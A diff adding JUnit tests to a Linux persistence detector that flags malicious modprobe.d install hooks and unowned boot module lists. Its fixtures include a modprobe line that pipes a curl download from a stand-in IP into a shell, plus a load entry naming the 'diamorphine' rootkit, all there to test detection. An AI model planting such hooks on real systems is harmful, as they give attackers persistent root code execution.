@@ -38,4 +38,29 @@ class ModulesDetectorTest {
                 .packaged("systemd", "/usr/lib/modules-load.d/fuse.conf", "fuse\n");
         assertEquals(List.of(), root.run(new ModulesDetector()));
     }
+
+    @Test
+    void modprobeCommandsInUnownedFilesOrWithIndicators() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir)
+                .packaged("kmod", "/lib/modprobe.d/aliases.conf", "alias char-major-10-175 agpgart\n"
+                        + "install floppy /bin/true\n")
+                .packaged("vendor-tools", "/usr/lib/modprobe.d/vendor.conf",
+                        "install e1000 curl -s http://198.51.100.7/k | sh; /sbin/modprobe --ignore-install e1000\n")
+                .write("/etc/modprobe.d/blacklist-pc.conf", "blacklist pcspkr\ninstall usb_storage /usr/local/sbin/hook\n")
+                .write("/run/modprobe.d/notes.txt", "install x /tmp/x\n")
+                .write("/etc/modprobe.d/local.conf", "options loop max_loop=64\n");
+        List<Finding> f = root.run(new ModulesDetector());
+        assertEquals(List.of("high linux.modules.modprobe_command /etc/modprobe.d/blacklist-pc.conf",
+                "high linux.modules.modprobe_command /usr/lib/modprobe.d/vendor.conf"), PackagedRoot.brief(f));
+        assertEquals("in a file owned by no package", f.get(0).evidence().get("indicator"));
+        assertEquals("download piped to a shell", f.get(1).evidence().get("indicator"));
+        assertEquals("vendor-tools", f.get(1).evidence().get("package"));
+    }
+
+    @Test
+    void loadListInUsrLocalIsRead() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir).write("/usr/local/lib/modules-load.d/rk.conf", "diamorphine\n");
+        assertEquals(List.of("medium linux.modules.unowned_boot_module /usr/local/lib/modules-load.d/rk.conf"),
+                PackagedRoot.brief(root.run(new ModulesDetector())));
+    }
 }
